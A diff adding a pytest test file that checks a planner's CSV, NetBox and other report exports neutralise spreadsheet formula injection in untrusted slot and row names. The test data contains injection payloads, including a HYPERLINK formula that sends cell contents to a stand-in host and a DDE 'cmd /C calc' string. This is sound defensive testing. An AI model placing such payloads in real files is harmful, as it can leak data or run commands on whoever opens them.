@@ -1,0 +1,63 @@
+"""No cell of any CSV begins as a formula, whatever names a stranger gave; readers of ours get the names back."""
+
+import csv
+import io
+import zipfile
+from dataclasses import replace
+
+import pytest
+from small_plans import make_plan
+
+from planner import report
+from planner.placement import _layout
+from planner.spreadsheet import FORMULA, inert, original
+
+NAMES = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "plain", "'quoted'")
+
+
+def hostile(room):
+    names = tuple(NAMES[n % len(NAMES)] + f" {n}" * (n >= len(NAMES)) for n in range(room.slot_count))
+    return replace(room, slot_names=names, row_names=tuple(f"=row{n}" for n in range(len(room.row_names))), title="=1+1")
+
+
+@pytest.fixture(scope="module")
+def plan():
+    label = '=HYPERLINK("{cabinet}")-{piece}'
+    return make_plan(q=5, endpoints_per_router=2, change_room=hostile, label=label, name="=plan", title="=1+1")
+
+
+def texts(path):
+    """The CSV files of a report."""
+    if path.suffix == ".zip":
+        with zipfile.ZipFile(path) as book:
+            return [book.read(name).decode() for name in book.namelist()]
+    return [path.read_text(encoding="utf-8")]
+
+
+def number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("name", ["csv", "labels_csv", "slingshot_p2p", "netbox", "opa"])
+def test_no_cell_is_a_formula(plan, tmp_path, name):
+    if name != "opa":
+        assert {plan.room.slot_names[slot][0] for slot in plan.placement.slot_of} > {"=", "+", "-", "@"}
+    path = report.write(plan, tmp_path, name)
+    cells = [cell for text in texts(path) for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert len(cells) > 100
+    assert not [cell for cell in cells if cell[:1] in FORMULA and cell and not number(cell)]
+
+
+def test_a_schedule_is_read_back_as_a_layout(plan, tmp_path):
+    path = report.write(plan, tmp_path, "csv")
+    given = _layout.read(path, plan.topology, plan.room)
+    assert given.slot.tolist() == plan.placement.slot_of[plan.placement.cabinet_of].tolist()
+
+
+@pytest.mark.parametrize("text", [*NAMES, "", "'", "''", "''=", "=", "-5", "-5x", "−1"])
+def test_text_comes_back(text):
+    assert original(inert(text)) == text
